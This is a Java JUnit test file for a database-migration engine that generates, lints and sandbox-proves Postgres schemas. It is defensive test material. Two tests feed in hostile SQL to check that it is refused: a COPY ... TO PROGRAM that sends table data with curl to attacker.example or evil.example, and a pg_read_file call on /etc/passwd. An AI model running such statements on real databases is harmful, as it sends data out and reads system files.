package dev.backendteam.dbarchitect.engine;

import com.fasterxml.jackson.databind.JsonNode;
import dev.backendteam.contract.Artifact;
import dev.backendteam.contract.ArtifactKind;
import dev.backendteam.contract.Contract;
import dev.backendteam.contract.Evidence;
import dev.backendteam.contract.EvidenceStatus;
import dev.backendteam.contract.FailureKind;
import dev.backendteam.contract.FileInput;
import dev.backendteam.contract.Finding;
import dev.backendteam.contract.JobInputs;
import dev.backendteam.contract.Json;
import dev.backendteam.contract.ResultStatus;
import dev.backendteam.contract.Severity;
import dev.backendteam.contract.Specialist;
import dev.backendteam.contract.StepOutcome;
import dev.backendteam.contract.TaskEvent;
import dev.backendteam.contract.TaskKind;
import dev.backendteam.dbarchitect.engine.design.ExistingSchema;
import dev.backendteam.dbarchitect.engine.lint.MigrationLinter;
import dev.backendteam.dbarchitect.engine.proof.MigrationProver;
import dev.backendteam.dbarchitect.engine.proof.Proof;
import dev.backendteam.dbarchitect.engine.proof.ProbePlan;
import dev.backendteam.dbarchitect.engine.proof.ProofPlan;
import dev.backendteam.dbarchitect.engine.proof.SchemaProbe;
import dev.backendteam.dbarchitect.engine.proof.TableAccess;
import dev.backendteam.dbarchitect.engine.spec.DomainSpecReader;
import org.junit.jupiter.api.Test;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

class DbArchitectEngineTest {

    /** Records what it was asked to prove and answers with the evidence it was given. */
    private static final class RecordingProver implements MigrationProver {
        final List<ProofPlan> plans = new ArrayList<>();
        final List<Evidence> answer;

        RecordingProver(Evidence... answer) {
            this.answer = List.of(answer);
        }

        @Override
        public Proof prove(ProofPlan plan) {
            plans.add(plan);
            return new Proof(answer, List.of());
        }

        @Override
        public SchemaProbe probe(ProbePlan plan) {
            return SchemaProbe.notRun("a recording prover runs nothing");
        }
    }

    private final RecordingProver prover = new RecordingProver();
    private final DbArchitectEngine engine = new DbArchitectEngine(prover);

    private static TaskEvent task(TaskKind kind, JobInputs inputs, List<Artifact> artifacts) {
        return new TaskEvent(Contract.VERSION, "t-1", "job-1", 1, 1, Specialist.DB_ARCHITECT, null, kind,
                "comments on posts", inputs, artifacts, 0, null);
    }

    private static JobInputs inputs(String specYaml, String sql) {
        return new JobInputs(specYaml == null ? null : DomainSpecReader.read(specYaml), sql, null, null, null, null,
                null, null);
    }

    private static String brief() throws Exception {
        try (InputStream in = DbArchitectEngineTest.class.getResourceAsStream("/specs/brief-example.yaml")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static List<String> ruleIds(StepOutcome outcome) {
        return outcome.findings().stream().map(Finding::ruleId).toList();
    }

    private static Finding finding(StepOutcome outcome, String ruleId) {
        return outcome.findings().stream().filter(f -> f.ruleId().equals(ruleId)).findFirst()
                .orElseThrow(() -> new AssertionError("no " + ruleId + " in " + outcome.findings()));
    }

    @Test
    void aSpecBecomesMigrationsTypesAndADiagram() throws Exception {
        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs(brief(), null), List.of()));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status(), outcome.reason());
        List<Artifact> migrations = outcome.artifacts().stream().filter(a -> a.kind() == ArtifactKind.MIGRATION)
                .toList();
        assertEquals(9, migrations.size());
        assertTrue(migrations.stream().allMatch(m -> m.down() != null && m.producedBy().equals("db-architect")));
        assertEquals(List.of(ArtifactKind.TYPES, ArtifactKind.DIAGRAM), outcome.artifacts().stream()
                .map(Artifact::kind).filter(k -> k != ArtifactKind.MIGRATION).toList());
        assertEquals("database.types.ts", outcome.artifacts().get(9).name());
        assertEquals("schema.mmd", outcome.artifacts().get(10).name());
        assertEquals(List.of(DbArchitectEngine.SPEC_CHECK, DbArchitectEngine.LINT_CHECK), outcome.evidence().stream()
                .map(Evidence::check).toList());
        assertTrue(outcome.evidence().stream().allMatch(Evidence::passed));
        assertTrue(outcome.findings().stream().noneMatch(f -> f.severity() != Severity.INFO), outcome.findings()
                .toString());
        assertTrue(finding(outcome, "design.rls-enabled").message().contains("without any policy"));
        assertTrue(finding(outcome, "design.access-intent").message().contains("audit_event: service role only"));
        assertEquals(1, prover.plans.size());
        assertEquals(9, prover.plans.get(0).migrations().size());
    }

    @Test
    void withoutASandboxEveryProofSaysItDidNotRun() throws Exception {
        StepOutcome outcome = new DbArchitectEngine().work(task(TaskKind.WORK, inputs(brief(), null), List.of()));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status());
        List<Evidence> proofs = outcome.evidence().stream().filter(e -> e.check().startsWith("apply")
                || e.check().startsWith("down") || e.check().startsWith("catalog") || e.check().startsWith("up"))
                .toList();
        assertEquals(List.of(MigrationProver.APPLY, MigrationProver.CATALOG_PRIMARY_KEYS,
                MigrationProver.CATALOG_FOREIGN_KEY_INDEXES, MigrationProver.CATALOG_TIMESTAMPTZ,
                MigrationProver.CATALOG_UPDATED_AT_TRIGGERS, MigrationProver.CATALOG_GRANTS, MigrationProver.DOWN,
                MigrationProver.UP_AGAIN), proofs.stream().map(Evidence::check).toList());
        assertTrue(proofs.stream().allMatch(e -> e.status() == EvidenceStatus.NOT_RUN && !e.passed()
                && e.details().contains("no sandbox is configured")), proofs.toString());
        assertTrue(finding(outcome, "proof.not-run").message().contains("nothing here is proven by execution"));
    }

    @Test
    void anInvalidSpecFailsWithEveryProblemAtItsPath() {
        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs("""
                entities:
                  - { name: project, tenant: org }
                  - { name: task, belongsTo: project, fields: { status: { enum: [] } } }
                """, null), List.of()));
        assertEquals(ResultStatus.FAILED, outcome.status());
        assertEquals(FailureKind.INVALID_INPUT, outcome.failureKind());
        assertEquals("the domain spec is invalid (1 error): /entities/1/fields/status/enum: enum must list at least"
                + " one value", outcome.reason());
        assertEquals("/entities/1/fields/status/enum", outcome.findings().get(0).object());
        assertTrue(outcome.artifacts().isEmpty());
        assertTrue(prover.plans.isEmpty(), "nothing is proven from an invalid spec");
    }

    @Test
    void aSpecMayArriveAsYamlText() {
        JobInputs yaml = new JobInputs(Json.events().getNodeFactory().textNode("entities:\n  - name: note\n"
                + "    fields: { body: text! }\n"), null, null, null, null, null, null, null);
        StepOutcome outcome = engine.work(task(TaskKind.WORK, yaml, List.of()));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status(), outcome.reason());
        assertEquals("create_note", outcome.artifacts().get(1).name());
        JobInputs broken = new JobInputs(Json.events().getNodeFactory().textNode("entities:\n  - name: [note\n"),
                null, null, null, null, null, null, null);
        StepOutcome refused = engine.work(task(TaskKind.WORK, broken, List.of()));
        assertEquals(FailureKind.INVALID_INPUT, refused.failureKind());
        assertTrue(refused.reason().startsWith("the domain spec is not YAML or JSON at line"), refused.reason());
    }

    @Test
    void sqlAloneIsReviewedWithLinesAndFixes() {
        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs(null, """
                create table posts (id serial primary key, title varchar(200), created timestamp);
                create index on posts (title);
                """), List.of()));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status());
        assertTrue(outcome.artifacts().isEmpty());
        assertTrue(ruleIds(outcome).containsAll(List.of("lint.serial-column", "lint.int-key", "lint.varchar",
                "lint.timestamp-without-time-zone", "lint.missing-timeouts", "lint.not-robust")), ruleIds(outcome)
                .toString());
        Finding varchar = finding(outcome, "lint.varchar");
        assertEquals(1, varchar.line());
        assertEquals("sql: posts.title", varchar.object());
        assertTrue(varchar.fix().startsWith("Use text"));
        assertTrue(finding(outcome, "input.sql-reviewed").message().startsWith("SQL of 2 statement(s) reviewed"));
        assertTrue(prover.plans.get(0).base().get(0).sql().startsWith("create table posts"), "the SQL is what gets proven");
    }

    @Test
    void hostileSqlIsRefusedWithItsLine() {
        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs(null, """
                create table if not exists public.note (id uuid primary key);
                copy public.note to program 'curl -d @- http://attacker.example';
                select pg_read_file('/etc/passwd');
                """), List.of()));
        assertEquals(ResultStatus.FAILED, outcome.status());
        assertEquals(FailureKind.INVALID_INPUT, outcome.failureKind());
        assertTrue(outcome.reason().startsWith("the SQL cannot be used: copy … to program is not allowed"),
                outcome.reason());
        List<Integer> lines = outcome.findings().stream().filter(f -> f.ruleId().equals("lint.server-escape"))
                .map(Finding::line).toList();
        assertEquals(List.of(2, 3), lines);
        assertTrue(prover.plans.isEmpty(), "refused SQL is not even sent to the sandbox");
    }

    @Test
    void malformedSqlIsRefusedWithItsLine() {
        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs(null,
                "create table t (id uuid primary key);\n\ninsert into t values ('unclosed);\n"), List.of()));
        assertEquals(FailureKind.INVALID_INPUT, outcome.failureKind());
        Finding f = finding(outcome, "sql.unterminated");
        assertEquals(3, f.line());
        assertTrue(outcome.reason().contains("line 3"), outcome.reason());
        StepOutcome prose = engine.work(task(TaskKind.WORK, inputs(null, "Please add comments to posts."),
                List.of()));
        assertEquals(FailureKind.INVALID_INPUT, prose.failureKind());
        assertEquals("statement starts with 'Please', which is not a SQL command", finding(prose,
                "sql.unknown-command").message());
    }

    @Test
    void plainWordsAskForASpecWithAnExampleThatIsItselfValid() throws Exception {
        StepOutcome outcome = engine.work(task(TaskKind.WORK, JobInputs.empty(), List.of()));
        assertEquals(ResultStatus.NEEDS_INPUT, outcome.status());
        String question = outcome.question();
        assertTrue(question.contains("/schemas/domain-spec.schema.json"));
        int from = question.indexOf("{\"entities\"");
        int to = question.indexOf(" — entities with fields");
        JsonNode example = Json.events().readTree(question.substring(from, to));
        assertTrue(DomainSpecValidator.standard().validate(example, ExistingSchema.empty()).valid(),
                "the example in the question is a valid spec");
        assertEquals(List.of("input.words-only"), ruleIds(outcome));
        assertNull(outcome.failureKind());
    }

    @Test
    void aSpecMayExtendTheGivenSqlAndEarlierMigrationsAndTheProverSeesAllInOrder() {
        Artifact earlier = Artifact.migration("create_post", "set lock_timeout = '5s';\nset statement_timeout ="
                + " '60s';\ncreate table if not exists public.post (id uuid primary key);", "drop table if exists"
                + " public.post;", Specialist.DB_ARCHITECT);
        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs("""
                entities:
                  - { name: account }
                  - { name: post }
                  - { name: comment, belongsTo: [post, account], owner: true, fields: { body: text! } }
                """, "create table account (id bigint generated always as identity primary key);"),
                List.of(earlier)));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status(), outcome.reason());
        assertEquals(List.of("create_set_updated_at_function", "create_comment"), outcome.artifacts().stream()
                .filter(a -> a.kind() == ArtifactKind.MIGRATION).map(Artifact::name).toList());
        assertTrue(outcome.artifacts().get(1).content().contains("account_id bigint not null"));
        assertEquals(2, outcome.findings().stream().filter(f -> f.ruleId().equals("design.table-exists")).count());
        ProofPlan plan = prover.plans.get(0);
        assertEquals("create table account (id bigint generated always as identity primary key);",
                plan.base().get(0).sql());
        assertEquals(List.of("create_post", "create_set_updated_at_function", "create_comment"), plan.migrations()
                .stream().map(Migration::name).toList());
    }

    @Test
    void aFailedProofFailsTheStepWithItsEvidence() throws Exception {
        RecordingProver failing = new RecordingProver(new Evidence("apply", false, "statement 3 (line 7, column 3):"
                + " 42P01 relation \"x\" does not exist", 12));
        StepOutcome outcome = new DbArchitectEngine(failing).work(task(TaskKind.WORK, inputs(brief(), null),
                List.of()));
        assertEquals(ResultStatus.FAILED, outcome.status());
        assertEquals(FailureKind.PROOF_FAILED, outcome.failureKind());
        assertTrue(outcome.reason().contains("42P01"));
        assertTrue(outcome.evidence().stream().anyMatch(e -> !e.passed()));
    }

    @Test
    void validationReplaysTheWholeBundleInOrder() throws Exception {
        List<Artifact> bundle = new ArrayList<>(engine.work(task(TaskKind.WORK, inputs(brief(), null), List.of()))
                .artifacts());
        bundle.add(Artifact.migration("post_rls", "set lock_timeout = '5s';\nset statement_timeout = '60s';\n"
                + "drop policy if exists \"read own\" on public.task;\ncreate policy \"read own\" on public.task for"
                + " select to authenticated using ((select auth.uid()) = user_id);", null, Specialist.SECURITY));
        prover.plans.clear();
        StepOutcome outcome = engine.validate(task(TaskKind.VALIDATE, JobInputs.empty(), bundle));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status(), outcome.reason());
        assertEquals(DbArchitectEngine.BUNDLE_LINT_CHECK, outcome.evidence().get(0).check());
        assertTrue(outcome.evidence().get(0).passed());
        assertEquals(10, prover.plans.get(0).migrations().size());
        assertEquals("post_rls", prover.plans.get(0).migrations().get(9).name());
    }

    @Test
    void validationFailsOnABundleThatLocksAnExistingTable() {
        List<Artifact> bundle = List.of(
                Artifact.migration("create_post", "set lock_timeout = '5s';\nset statement_timeout = '60s';\n"
                        + "create table if not exists public.post (id uuid primary key, title text);", "drop table"
                        + " if exists public.post;", Specialist.DB_ARCHITECT),
                Artifact.migration("index_title", "set lock_timeout = '5s';\nset statement_timeout = '60s';\n"
                        + "create index if not exists idx_post_title on public.post (title);", null,
                        Specialist.QUERY_OPTIMIZER));
        StepOutcome outcome = engine.validate(task(TaskKind.VALIDATE, JobInputs.empty(), bundle));
        assertEquals(ResultStatus.FAILED, outcome.status());
        assertEquals(FailureKind.PROOF_FAILED, outcome.failureKind());
        assertFalse(outcome.evidence().get(0).passed());
        Finding f = finding(outcome, MigrationLinter.INDEX_NOT_CONCURRENT);
        assertEquals("index_title: public.post", f.object());
        assertEquals(3, f.line());
    }

    @Test
    void validationWithoutMigrationsHasNothingToReplay() {
        StepOutcome outcome = engine.validate(task(TaskKind.VALIDATE, JobInputs.empty(), List.of()));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status());
        assertTrue(outcome.evidence().isEmpty());
        assertEquals(List.of("validation.nothing-to-replay"), ruleIds(outcome));
    }

    /** A project handed in as files: its migrations out of order, a seed, and other files. */
    private static JobInputs project(String specYaml, String grants) {
        List<FileInput> files = List.of(
                new FileInput("supabase/migrations/20240301000000_comment_index.sql",
                        "create index idx_comment_post_id on public.comment (post_id);"),
                new FileInput("supabase/seed.sql", "insert into public.post (title) values ('hello');"),
                new FileInput("package.json", "{}"),
                new FileInput("supabase/migrations/20240101000000_init.sql", """
                        create table public.post (id uuid primary key default gen_random_uuid(),
                          title varchar(200) not null);
                        create table public.comment (id uuid primary key default gen_random_uuid(),
                          post_id uuid not null references public.post (id) on delete cascade, body text);
                        """));
        return new JobInputs(specYaml == null ? null : DomainSpecReader.read(specYaml), null, null, null, null, files,
                null, null, grants);
    }

    @Test
    void theProjectsMigrationsAreTheBaseInTheirOrderLintedAsExistingAndNeverDelivered() {
        StepOutcome outcome = engine.work(task(TaskKind.WORK, project("""
                entities:
                  - { name: reaction, belongsTo: comment, owner: true, fields: { emoji: text! } }
                """, "legacy"), List.of()));
        assertEquals(ResultStatus.SUCCEEDED, outcome.status(), outcome.reason());
        ProofPlan plan = prover.plans.get(0);
        assertEquals(List.of("supabase/migrations/20240101000000_init.sql",
                "supabase/migrations/20240301000000_comment_index.sql"), plan.base().stream()
                .map(ExistingSchema.Script::source).toList(), "applied first, in the CLI's order, without the seed");
        assertEquals("legacy", plan.grants(), "the job's grant model reaches the proof");
        assertEquals(List.of("public.reaction"), plan.access().stream().map(TableAccess::table).toList());
        assertTrue(outcome.artifacts().stream().noneMatch(a -> a.name().contains("init")
                || a.name().contains("comment_index")), "the project's migrations are not delivered again");
        assertTrue(outcome.artifacts().stream().anyMatch(a -> a.content() != null
                && a.content().contains("references public.comment (id)")), "the spec builds on the base's tables");
        assertTrue(outcome.findings().stream().noneMatch(f -> f.ruleId().equals("lint.varchar")),
                "the project's history is not relinted as this job's findings");
        assertTrue(finding(outcome, "input.base-migrations").message().startsWith("the project's 2 existing"));

        engine.validate(task(TaskKind.VALIDATE, project(null, null), outcome.artifacts()));
        assertEquals(plan.base(), prover.plans.get(1).base(), "the validation round replays the same base");
    }

    @Test
    void aChangeToATableOfTheBaseTripsTheSafetyRulesForExistingObjects() {
        JobInputs inputs = project(null, null);
        List<Artifact> bundle = List.of(Artifact.migration("post_body", "set lock_timeout = '5s';\n"
                + "set statement_timeout = '60s';\nalter table public.post add column body text not null;", null,
                Specialist.DB_ARCHITECT));
        StepOutcome outcome = engine.validate(task(TaskKind.VALIDATE, inputs, bundle));
        assertEquals(ResultStatus.FAILED, outcome.status());
        assertEquals("post_body: public.post.body", finding(outcome, MigrationLinter.NOT_NULL_WITHOUT_DEFAULT)
                .object());
        List<Artifact> created = List.of(Artifact.migration("post_body", "set lock_timeout = '5s';\n"
                + "set statement_timeout = '60s';\ncreate table if not exists public.post (id uuid primary key);\n"
                + "alter table public.post add column body text not null;", "drop table if exists public.post;",
                Specialist.DB_ARCHITECT));
        assertTrue(ruleIds(engine.validate(task(TaskKind.VALIDATE, JobInputs.empty(), created)))
                .stream().noneMatch(MigrationLinter.NOT_NULL_WITHOUT_DEFAULT::equals),
                "without the base, the same statement on a table created in the same migration is exempt");

        List<Artifact> foreignKey = List.of(Artifact.migration("comment_post_fk", "set lock_timeout = '5s';\n"
                + "set statement_timeout = '60s';\nalter table public.comment add constraint comment_post_fk foreign"
                + " key (post_id) references public.post (id) on delete cascade not valid;\nalter table"
                + " public.comment validate constraint comment_post_fk;", null, Specialist.DB_ARCHITECT));
        assertTrue(ruleIds(engine.validate(task(TaskKind.VALIDATE, inputs, foreignKey))).stream()
                .noneMatch(MigrationLinter.FK_WITHOUT_INDEX::equals), "the base's index on comment.post_id counts");
        assertTrue(ruleIds(engine.validate(task(TaskKind.VALIDATE, JobInputs.empty(), foreignKey))).stream()
                .anyMatch(MigrationLinter.FK_WITHOUT_INDEX::equals), "without the base nothing indexes it");
    }

    @Test
    void aBaseMigrationThatReachesOutsideTheDatabaseIsRefusedBeforeAnythingRuns() {
        JobInputs inputs = new JobInputs(null, null, null, null, null, List.of(new FileInput(
                "supabase/migrations/001_init.sql", "create table t (id bigint primary key);\n"
                + "copy t to program 'curl evil.example';")), null, null);
        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs, List.of()));
        assertEquals(FailureKind.INVALID_INPUT, outcome.failureKind());
        assertEquals(2, finding(outcome, MigrationLinter.SERVER_ESCAPE).line());
        assertTrue(prover.plans.isEmpty(), "nothing was sent to the sandbox");
    }
}
